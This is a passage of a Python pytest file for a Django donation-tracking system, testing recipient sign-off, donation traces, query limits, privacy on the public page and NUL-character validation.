        arguments = {"allocation": allocation, "by": clerk, "signed_by_name": "王会计", "signed_at": ago(hours=1)}
        arguments.update(overrides)
        return recipient_confirmation_record(**arguments)

    with pytest.raises(ValidationError) as excinfo:
        sign()  # not confirmed yet
    assert "allocation" in excinfo.value.message_dict
    allocation_confirm(allocation=allocation, by=reviewer)
    for overrides, field in [
        ({"amount_received": "600.01"}, "amount_received"),
        ({"amount_received": "-1"}, "amount_received"),
        ({"signed_at": timezone.now() + timedelta(hours=1)}, "signed_at"),
        ({"signed_at": "昨天"}, "signed_at"),
        ({"signed_by_name": ""}, "signed_by_name"),
    ]:
        with pytest.raises(ValidationError) as excinfo:
            sign(**overrides)
        assert field in excinfo.value.message_dict
    assert not RecipientConfirmation.objects.exists()

    confirmation = sign()
    assert confirmation.amount_received == Decimal("600.00")
    assert confirmation.recorded_by == clerk
    with pytest.raises(ValidationError) as excinfo:
        sign()  # twice
    assert "allocation" in excinfo.value.message_dict
    assert RecipientConfirmation.objects.count() == 1

    partly = pay(clerk, campaign, hospital, "100.00", plan_line=line_of(plan, hospital))
    allocation_confirm(allocation=partly, by=reviewer)
    assert sign(allocation=partly, amount_received="80.00").amount_received == Decimal("80.00")


def test_recipient_sign_off_of_goods_counts_each_lot(
    clerk, reviewer, keeper_a, keeper_b, warehouse, city, campaign, plan, hospital
):
    donation = goods_gift(clerk, reviewer, city, campaign)
    masks, disinfectant = donation.items.order_by("id")
    stocked(masks, warehouse, keeper_a, keeper_b)
    stocked(disinfectant, warehouse, keeper_a, keeper_b)
    allocation = allocation_register_goods(
        by=keeper_a,
        campaign=campaign,
        recipient=hospital,
        allocated_on=timezone.localdate(),
        plan_line=line_of(plan, hospital, "in_kind"),
        lines=[
            {"item": masks, "warehouse": warehouse, "quantity": "300"},
            {"item": disinfectant, "warehouse": warehouse, "quantity": "10"},
        ],
    )
    mask_source = allocation.sources.get(item=masks)
    disinfectant_source = allocation.sources.get(item=disinfectant)

    def sign(quantities):
        return recipient_confirmation_record(
            allocation=allocation,
            by=keeper_a,
            signed_by_name="仓库保管员小陈",
            signed_at=ago(minutes=5),
            quantities_received=quantities,
        )

    with pytest.raises(ValidationError):
        sign({})  # the transfer order is not signed by the second keeper yet
    allocation_confirm(allocation=allocation, by=keeper_b)
    for quantities in ({mask_source.pk: "300.001"}, {mask_source.pk: "0"}, {999999: "1"}, {mask_source.pk: "多"}):
        with pytest.raises(ValidationError) as excinfo:
            sign(quantities)
        assert "quantities_received" in excinfo.value.message_dict
    confirmation = sign({mask_source.pk: "298"})  # two damaged in transport; the rest counted in full
    assert {key: Decimal(value) for key, value in confirmation.quantities_received.items()} == {
        str(mask_source.pk): Decimal("298"),
        str(disinfectant_source.pk): Decimal("10"),
    }
    with pytest.raises(ValidationError):
        sign({})


# --- tracing (款物去向) and the public page -------------------------------------------------------


def test_the_trace_shows_confirmed_allocations_only(clerk, reviewer, city, campaign, plan, hospital, cdc):
    donation = gift(clerk, reviewer, city, campaign, "1000.00")
    first = pay(clerk, campaign, hospital, "600.00", plan_line=line_of(plan, hospital))
    trace = donation_trace(Donation.objects.get(pk=donation.pk))
    assert not trace
    assert trace.steps == []
    assert trace.allocated == Decimal("0.00")

    allocation_confirm(allocation=first, by=reviewer)
    pay(clerk, campaign, cdc, "300.00", plan_line=line_of(plan, cdc))  # registered, not confirmed
    trace = donation_trace(Donation.objects.get(pk=donation.pk))
    assert [step.allocation_serial for step in trace.steps] == [first.serial]
    step = trace.steps[0]
    assert (step.recipient_name, step.recipient_kind, step.amount) == (hospital.name, "医院", Decimal("600.00"))
    assert step.allocated_on == timezone.localdate()
    assert step.plan_document_number == PLAN_NUMBER
    assert step.basis == "分配方案"
    assert step.recipient_signed_at is None
    assert trace.allocated == Decimal("600.00")
    assert trace.remaining == Decimal("100.00")  # 1000 - 600 paid - 300 reserved

    signed_at = ago(hours=1)
    recipient_confirmation_record(allocation=first, by=clerk, signed_by_name="王会计", signed_at=signed_at)
    assert donation_trace(Donation.objects.get(pk=donation.pk)).steps[0].recipient_signed_at == signed_at


def test_a_trace_is_read_in_at_most_five_queries(
    django_assert_max_num_queries, clerk, reviewer, keeper_a, keeper_b, warehouse, city, campaign, plan, hospital
):
    donation = gift(clerk, reviewer, city, campaign, "10000.00")
    for n in range(12):
        allocation = pay(clerk, campaign, hospital, "500.00", plan_line=line_of(plan, hospital))
        allocation_confirm(allocation=allocation, by=reviewer)
        if n % 2:
            recipient_confirmation_record(
                allocation=allocation, by=clerk, signed_by_name="王会计", signed_at=ago(minutes=n)
            )
    goods = goods_gift(clerk, reviewer, city, campaign)
    masks, disinfectant = goods.items.order_by("id")
    stocked(masks, warehouse, keeper_a, keeper_b)
    stocked(disinfectant, warehouse, keeper_a, keeper_b)
    for _n in range(6):
        order = allocation_register_goods(
            by=keeper_a,
            campaign=campaign,
            recipient=hospital,
            allocated_on=timezone.localdate(),
            plan_line=line_of(plan, hospital, "in_kind"),
            lines=[
                {"item": masks, "warehouse": warehouse, "quantity": "100"},
                {"item": disinfectant, "warehouse": warehouse, "quantity": "1"},
            ],
        )
        allocation_confirm(allocation=order, by=keeper_b)
        recipient_confirmation_record(allocation=order, by=keeper_a, signed_by_name="小陈", signed_at=ago(minutes=1))

    cash = Donation.objects.get(pk=donation.pk)
    with django_assert_max_num_queries(5):
        trace = donation_trace(cash)
        shown = [(s.recipient_name, s.amount, s.recipient_signed_at, s.plan_document_number) for s in trace.steps]
    assert len(shown) == 12
    assert trace.allocated == Decimal("6000.00")
    assert trace.remaining == Decimal("4000.00")
    assert sum(1 for _name, _amount, signed, _number in shown if signed) == 6

    lots = Donation.objects.get(pk=goods.pk)
    with django_assert_max_num_queries(5):
        trace = donation_trace(lots)
        shown = [(s.item_name, s.quantity, s.unit, s.value, s.recipient_signed_at) for s in trace.steps]
    assert len(shown) == 12
    assert trace.allocated == Decimal("720.00")  # 600 masks at 1.20; the disinfectant has no value
    assert trace.quantities_remaining == [("医用外科口罩", Decimal("1400"), "只"), ("消毒液", Decimal("44"), "桶")]


def test_the_public_page_shows_where_the_gift_went_but_not_who_signed(
    client, clerk, reviewer, city, campaign, plan, hospital
):
    donation = gift(clerk, reviewer, city, campaign, "1000.00")
    allocation = pay(clerk, campaign, hospital, "600.00", plan_line=line_of(plan, hospital))
    url = reverse("donations:donation", kwargs={"token": donation.lookup_token})
    page = client.get(url).content.decode()
    assert hospital.name not in page  # not confirmed yet: not public
    assert "尚未拨付" in page

    allocation_confirm(allocation=allocation, by=reviewer)
    signed_at = ago(hours=2)
    recipient_confirmation_record(allocation=allocation, by=clerk, signed_by_name="欧阳护士长", signed_at=signed_at)
    response = client.get(url)
    assert response.status_code == 200
    page = response.content.decode()
    assert hospital.name in page
    assert allocation.serial in page
    on = allocation.allocated_on
    assert f"{on.year}年{on.month}月{on.day}日" in page
    signed_day = timezone.localtime(signed_at).date()
    assert f"受赠单位已于 {signed_day.year}年{signed_day.month}月{signed_day.day}日 签收" in page
    assert "先进先出" in page  # the rule is written on the page
    assert "欧阳" not in page  # the recipient's signer
    for staff in (clerk, reviewer):
        assert f"{staff.last_name}{staff.first_name}" not in page


def test_the_public_page_flags_retroactive_paperwork(client, clerk, reviewer, city, campaign, hospital):
    allocation = _retroactive(clerk, city, campaign, hospital)
    donation = Donation.objects.get()
    donation_confirm(donation=donation, by=reviewer)
    page = client.get(reverse("donations:donation", kwargs={"token": donation.lookup_token})).content.decode()
    assert "补办手续" in page
    assert hospital.name in page
    assert allocation.serial in page
    assert "李护士长" not in page


def test_nul_characters_are_refused_not_crashing_the_database(clerk, city, campaign, hospital):
    """PostgreSQL cannot store NUL in text; the service refuses it with a field message on every backend."""
    with pytest.raises(ValidationError) as excinfo:
        make_plan(
            clerk,
            city,
            [{"kind": "cash", "campaign": campaign, "recipient": hospital, "amount": "1.00"}],
            title="方案\x00",
        )
    assert "title" in excinfo.value.message_dict
    assert connection.vendor in ("sqlite", "postgresql")
    assert not AllocationPlan.objects.exists()
